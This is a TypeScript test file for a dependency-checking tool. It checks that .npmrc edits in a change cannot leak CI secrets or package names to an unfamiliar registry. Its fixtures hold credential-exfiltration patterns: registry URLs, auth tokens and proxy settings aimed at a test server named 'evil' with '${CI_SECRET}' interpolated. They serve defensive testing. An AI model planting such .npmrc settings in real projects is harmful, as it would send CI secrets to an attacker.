import { symlinkSync } from 'node:fs'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { Report } from '../../../src/model/report.ts'
import { makeProject, type Ended, type Project } from '../../support/project.ts'
import { startRegistry, type RegistryOptions, type TestRegistry } from '../../support/server.ts'
import { integrityOf, packTarball } from '../../support/tarball.ts'
import { cert } from '../../support/tls.ts'

const now = new Date()
const secret = 'the-secret-of-the-job'
const token = 'the-token-of-the-job'
const published = { '1.0.0': { hours: 9000 } }
const packages = {
  new: published,
  '@corp/new': published,
  '@x/new': published,
  '@x/tool': { '1.0.0': { hours: 9000, manifest: { bin: 'index.js' } } },
}
const only = 'its registry is named only by this change'

let registry: TestRegistry
let corp: TestRegistry
let secure: TestRegistry
/** Serves all that is asked of it, and takes any proxy request. */
let evil: TestRegistry
let project: Project

beforeAll(async () => {
  const options: RegistryOptions = { packages, now, advisories: {} }
  const needsToken: RegistryOptions['fault'] = ({ headers }, response) => {
    if (headers.authorization === `Bearer ${token}`) return false
    response.writeHead(401, { 'content-type': 'application/json' }).end('{}')
    return true
  }
  ;[registry, corp, secure, evil] = await Promise.all([
    startRegistry(options),
    startRegistry({ ...options, fault: needsToken }),
    startRegistry({ ...options, isSecure: true }),
    startRegistry(options),
  ])
})
afterAll(() => Promise.all([registry, corp, secure, evil].map((one) => one.close())))
beforeEach(() => {
  project = makeProject('')
  // Of the machine: no part of any change.
  project.write({ '../.npmrc': `registry=${registry.url}\n` })
  for (const { requests, headers, bodies } of [registry, corp, secure, evil])
    for (const list of [requests, headers, bodies]) list.length = 0
})
afterEach(() => {
  expect(evil.requests).toEqual([])
  const sent = [registry, corp, secure, evil].map(({ requests, headers, bodies }) => [
    requests,
    headers,
    bodies,
  ])
  expect(JSON.stringify(sent)).not.toContain(secret)
  project.remove()
})

/** A project whose lockfile has packages, each from a server. */
function tree(
  locked: Readonly<Record<string, TestRegistry | null>> = {},
  folder = '',
): Record<string, unknown> {
  const entries = Object.entries(locked).map(([name, from]) => {
    const manifest = JSON.stringify({ name, version: '1.0.0' })
    const integrity = integrityOf(packTarball({ 'package.json': manifest, 'index.js': '' }))
    const resolved = from === null ? {} : { resolved: `${from.url}${name}/-/new-1.0.0.tgz` }
    return [`node_modules/${name}`, { version: '1.0.0', ...resolved, integrity }]
  })
  const dependencies = Object.fromEntries(Object.keys(locked).map((name) => [name, '1.0.0']))
  const root = { name: 'app', version: '1.0.0', dependencies }
  const lock = { name: 'app', version: '1.0.0', lockfileVersion: 3 }
  return {
    [path.posix.join(folder, 'package.json')]: root,
    [path.posix.join(folder, 'package-lock.json')]: {
      ...lock,
      packages: { '': root, ...Object.fromEntries(entries) },
    },
  }
}

function branch(before: Readonly<Record<string, unknown>>, after: Readonly<Record<string, unknown>>): void {
  project.write({ ...tree(), ...before })
  project.commit()
  project.git('switch', '-q', '-c', 'topic')
  project.write(after)
  project.commit()
}

async function check(...args: string[]) {
  // An empty one is none: the files of the change may then name others.
  const none = { npm_config_userconfig: '', npm_config_globalconfig: '' }
  const env = { CI_SECRET: secret, CI_TOKEN: token, ...none }
  return read(await project.depgateWith(env, 'check', ...args, '--format', 'json'))
}

function read({ code, stdout, stderr }: Ended) {
  if (code === 2) throw new Error(stderr)
  const { findings, gaps, coverage } = JSON.parse(stdout) as Report
  return {
    code,
    rules: [...new Set(findings.map(({ rule, level }) => `${rule} ${level}`))].sort(),
    gaps: [...new Set(gaps.map(({ package: id, reason }) => `${id} ${reason}`))],
    coverage,
  }
}

const heard = ({ requests, bodies }: TestRegistry) => [...requests, ...bodies].join('\n')

describe('a registry that only the change names is sent nothing', () => {
  const stray = () => `@x:registry=${evil.url}\${CI_SECRET}/\n//127.0.0.1/:_authToken=\${CI_SECRET}\n`
  const isRefused = (got: Awaited<ReturnType<typeof check>>) => {
    expect(got.code).not.toBe(0)
    expect(got.gaps.join('\n')).toContain(`pkg:npm/%40x/new@1.0.0 ${only}`)
    // Nor are its names sent to another server.
    expect(heard(registry)).not.toContain('@x/')
  }

  test.each([
    ['a scope', () => ({ '.npmrc': stray() })],
    [
      'a global configuration in the checkout',
      () => ({ '.npmrc': 'prefix=./cfg\n', 'cfg/etc/npmrc': stray() }),
    ],
    [
      'a user configuration in the checkout',
      () => ({ '.npmrc': 'userconfig=./cfg/user\n', 'cfg/user': stray() }),
    ],
  ])('%s', async (_, files) => {
    branch({}, { ...tree({ '@x/new': evil }), ...files() })
    isRefused(await check('--base', 'main'))
  })

  test('with a lockfile that does not name it, on disk and staged', async () => {
    project.write({ ...tree(), '.npmrc': 'save-exact=true\n' })
    project.commit()
    project.write({ ...tree({ '@x/new': null, new: registry }), '.npmrc': stray() })
    isRefused(await check())
    project.git('add', '-A')
    isRefused(await check('--staged'))
    // What else arrives is judged as ever.
    expect(registry.requests).toContain('GET /new')
  })

  test('in a nested project that is new', async () => {
    branch({}, { ...tree({ '@x/new': evil }, 'web'), 'web/.npmrc': stray() })
    isRefused(await check('--base', 'main'))
  })

  test('behind a link that the base has', async () => {
    project.write({ 'conf/npmrc': 'save-exact=true\n' })
    symlinkSync('conf/npmrc', path.join(project.folder, '.npmrc'))
    branch({}, { ...tree({ '@x/new': evil }), 'conf/npmrc': stray() })
    isRefused(await check('--base', 'main'))
  })

  test('where a variable of the job names a file of the checkout', async () => {
    branch({ 'ci/npmrc': `registry=${registry.url}\n` }, { ...tree({ '@x/new': evil }), 'ci/npmrc': stray() })
    const env = { CI_SECRET: secret, npm_config_userconfig: path.join(project.folder, 'ci/npmrc') }
    isRefused(read(await project.depgateWith(env, 'check', '--base', 'main', '--format', 'json')))
  })

  test('for what a server of an agent starts', async () => {
    const servers = { mcpServers: { x: { command: 'npx', args: ['-y', '@x/tool@1.0.0'] } } }
    branch({}, { '.mcp.json': servers, '.npmrc': stray() })
    const got = await check('--base', 'main')
    expect(got.gaps.join('\n')).toContain(only)
    expect(heard(registry)).not.toContain('@x')
  })
})

describe('edits of the change to a registry of the base are ignored', () => {
  test.each([
    ['another default registry', () => `registry=${evil.url}\${CI_SECRET}/\n`, ['tampering error']],
    ['a proxy', () => `proxy=${evil.url}\nhttps-proxy=${evil.url}\n`, ['tampering error']],
    ['a token', () => `//${new URL(registry.url).host}/:_authToken=\${CI_SECRET}\n`, null],
  ])('%s', async (_, npmrc, rules) => {
    branch({ '.npmrc': 'save-exact=true\n' }, { ...tree({ new: registry }), '.npmrc': npmrc() })
    const got = await check('--base', 'main')
    if (rules !== null) expect(got).toMatchObject({ code: 1, rules })
    expect(got.gaps).toEqual([])
    expect(registry.requests).toContain('GET /new')
  })

  test('a certificate that the base names by a relative path', async () => {
    const npmrc = `registry=${secure.url}\ncafile=./ca.pem\n`
    branch(
      { ...tree({}, 'web'), 'web/.npmrc': npmrc, 'web/ca.pem': cert },
      { ...tree({ new: secure }, 'web'), 'web/ca.pem': 'none at all\n' },
    )
    expect(await check('--base', 'main')).toMatchObject({ code: 0, gaps: [] })
  })
})

describe('what is honest passes', () => {
  const npmrc = () =>
    `@corp:registry=${corp.url}\n//${new URL(corp.url).host}/:_authToken=\${CI_TOKEN}\nsave-exact=true\n`

  test('a scoped registry with its token, unchanged or with another setting that changes no server', async () => {
    branch({ '.npmrc': npmrc() }, tree({ '@corp/new': corp, new: registry }))
    expect(await check('--base', 'main')).toMatchObject({ code: 0, rules: [], gaps: [] })
    project.write({ '.npmrc': `${npmrc()}engine-strict=true\n` })
    expect(await check('--base', 'main')).toMatchObject({ code: 0, rules: [], gaps: [] })
    expect(await check()).toMatchObject({ code: 0 })
  })

  test('an .npmrc that git does not track is the own one of the job', async () => {
    branch({ '.gitignore': '.npmrc\n' }, tree({ '@corp/new': corp }))
    project.write({ '.npmrc': npmrc() })
    expect(await check('--base', 'main')).toMatchObject({ code: 0, rules: [], gaps: [] })
  })

  test('a project that moves with its .npmrc', async () => {
    branch({ ...tree({ new: registry }, 'a'), 'a/.npmrc': npmrc() }, {})
    project.git('mv', 'a', 'b')
    project.write(tree({ new: registry, '@corp/new': corp }, 'b'))
    project.commit()
    expect(await check('--base', 'main')).toMatchObject({ code: 0, gaps: [] })
  })

  test('a nested project that is new asks as npm would there', async () => {
    branch({ '.npmrc': `registry=${corp.url}\n` }, tree({ new: registry }, 'examples/one'))
    expect(await check('--base', 'main')).toMatchObject({ code: 0, rules: [], gaps: [] })
  })
})
